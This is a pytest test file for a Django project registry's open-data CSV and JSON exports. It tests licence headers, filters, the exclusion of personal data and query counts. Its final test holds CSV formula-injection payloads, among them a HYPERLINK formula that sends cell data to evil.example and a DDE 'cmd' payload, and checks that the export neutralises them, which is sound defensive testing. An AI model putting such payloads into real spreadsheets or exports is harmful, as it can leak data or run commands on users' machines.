"""The registry as open data: the list page's filters, stable fields, no personal data."""

import csv
import io
import json

import pytest

from projects.filters import filtered_projects
from projects.models import Project
from projects.tools.opendata import FIELD_NAMES
from tests.factories import make_project

pytestmark = pytest.mark.django_db

PERSONAL = ["Zhang San", "zhang.san@example.cn", "333 4444", "Li Wei", "li.wei@example.cn"]


def csv_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_csv_starts_with_the_bom_and_has_stable_fields(client, registry):
    response = client.get("/en/projects/open-data/projects.csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="guanxian-projects.csv"'
    assert response["Link"] == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
    assert "Last-Modified" in response
    header = response.content.decode("utf-8")[1:].splitlines()[0]
    assert header.split(",") == FIELD_NAMES
    rows = csv_rows(response)
    assert sorted(row["slug"] for row in rows) == ["ball-plant", "cage-works", "ring-forging"]
    rings = next(row for row in rows if row["slug"] == "ring-forging")
    assert rings["name_zh_hans"] == "锻环生产线"
    assert rings["investment_yuan"] == "680000000.00"
    assert rings["signing_date"] == "2023-11-14"
    assert rings["park"] == "north-park"
    assert rings["url"] == "http://testserver/en/projects/ring-forging/"


def test_field_names_do_not_follow_the_reader_language(client, registry):
    english = client.get("/en/projects/open-data/projects.csv").content.decode()
    chinese = client.get("/zh-hans/projects/open-data/projects.csv").content.decode()
    assert english.splitlines()[0] == chinese.splitlines()[0]


def test_json_carries_licence_and_last_update(client, registry):
    response = client.get("/en/projects/open-data/projects.json")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="guanxian-projects.json"'
    document = json.loads(response.content)
    assert document["licence"] == {
        "name": "CC BY 4.0",
        "url": "https://creativecommons.org/licenses/by/4.0/",
    }
    latest = Project.objects.published().latest("updated_at").updated_at
    assert document["last_updated"][:19] == latest.isoformat()[:19]
    assert document["count"] == 3
    assert document["fields"] == FIELD_NAMES
    assert all(list(project) == FIELD_NAMES for project in document["projects"])
    assert {p["slug"] for p in document["projects"]} == {"ball-plant", "cage-works", "ring-forging"}
    rings = next(p for p in document["projects"] if p["slug"] == "ring-forging")
    assert rings["investment_yuan"] == "680000000.00"
    assert rings["jobs"] == 300
    assert rings["construction_end"] is None
    assert rings["name_zh_hans"] == "锻环生产线"


def test_licence_is_a_setting(client, registry, settings):
    settings.OPEN_DATA_LICENCE = "Open Government Licence"
    settings.OPEN_DATA_LICENCE_URL = "https://example.cn/licence"
    document = client.get("/en/projects/open-data/projects.json").json()
    assert document["licence"] == {
        "name": "Open Government Licence",
        "url": "https://example.cn/licence",
    }


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_no_personal_data_and_no_drafts(client, registry, fmt):
    body = client.get(f"/en/projects/open-data/projects.{fmt}").content.decode()
    for value in PERSONAL:
        assert value not in body
    assert "contact" not in body
    assert "secret-draft" not in body
    assert "scheduled-later" not in body


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("sector=forging", {"ring-forging"}),
        ("park=north-park", {"ring-forging", "cage-works"}),
        ("stage=signed", {"ball-plant", "cage-works"}),
        ("kind=opportunity", {"cage-works"}),
        ("band=over-1b", {"ball-plant"}),
        ("band=500m-1b", {"ring-forging"}),
        ("band=under-100m", {"cage-works"}),
        ("q=forging", {"ring-forging"}),
        ("q=钢球", {"ball-plant"}),
        ("q=liaocheng", {"ball-plant"}),
        ("sector=bearings&park=north-park", {"cage-works"}),
        ("", {"ring-forging", "ball-plant", "cage-works"}),
    ],
)
def test_filters_match_the_list_filter(client, registry, query, expected):
    from django.http import QueryDict

    _form, projects = filtered_projects(QueryDict(query))
    assert {p.slug for p in projects} == expected
    rows = csv_rows(client.get(f"/en/projects/open-data/projects.csv?{query}"))
    assert {row["slug"] for row in rows} == expected
    document = client.get(f"/en/projects/open-data/projects.json?{query}").json()
    assert {p["slug"] for p in document["projects"]} == expected
    assert document["count"] == len(expected)


@pytest.mark.parametrize(
    "query",
    [
        "band=huge",
        "stage=dreaming",
        "kind=x",
        "sector=%3Cb%3E",
        "sector=no-such-sector",
        "park=closed-park",
        "sort=cheapest",
        "q=" + "x" * 101,
    ],
)
def test_invalid_filters_get_400(client, registry, query):
    for fmt in ("csv", "json"):
        response = client.get(f"/en/projects/open-data/projects.{fmt}?{query}")
        assert response.status_code == 400
        assert "The filters are not valid" in response.content.decode()


def test_query_count_does_not_grow(client, registry, django_assert_num_queries):
    # The sectors and parks the filter form offers, the last update, the projects.
    with django_assert_num_queries(4):
        client.get("/en/projects/open-data/projects.csv")
    for n in range(12):
        make_project(slug=f"bulk-{n}", sector=registry["bearings"], park=registry["south"])
    with django_assert_num_queries(4):
        client.get("/en/projects/open-data/projects.csv")
    with django_assert_num_queries(4):
        client.get("/en/projects/open-data/projects.json?sector=bearings")


def test_links_for_the_list_page_keep_its_filters(rf):
    from django.template.loader import render_to_string

    request = rf.get("/en/projects/?sector=forging&band=over-1b")
    html = render_to_string("projects/tools/open_data_links.html", request=request)
    assert 'href="/en/projects/open-data/projects.csv?sector=forging&amp;band=over-1b"' in html
    assert 'href="/en/projects/open-data/projects.json?sector=forging&amp;band=over-1b"' in html
    assert (
        '<a href="https://creativecommons.org/licenses/by/4.0/" rel="license">CC BY 4.0</a>' in html
    )


HOSTILE_CELLS = {
    "investor_en": '=HYPERLINK("http://evil.example/?"&B2,"Investor details")',
    "investor_zh_hans": "+86 635 1234 5678",
    "investor_country_en": "-2+3",
    "investor_country_zh_hans": "@SUM(1,2)",
    "summary_en": "\tcmd|' /C calc'!A0",
    "summary_zh_hans": "  =1+1",
}


def test_csv_cells_never_start_a_formula_and_the_json_keeps_the_text(client):
    make_project(slug="hostile", name_en="Ring line", **HOSTILE_CELLS)
    [row] = csv_rows(client.get("/en/projects/open-data/projects.csv"))
    for field, value in HOSTILE_CELLS.items():
        assert row[field] == f"'{value}", field
    # Plain text, numbers and dates are written as they are, so a spreadsheet still sums them.
    assert (row["name_en"], row["investment_yuan"], row["signing_date"]) == (
        "Ring line",
        "300000000.00",
        "2023-11-14",
    )
    [project] = json.loads(client.get("/en/projects/open-data/projects.json").content)["projects"]
    for field, value in HOSTILE_CELLS.items():
        assert project[field] == value, field
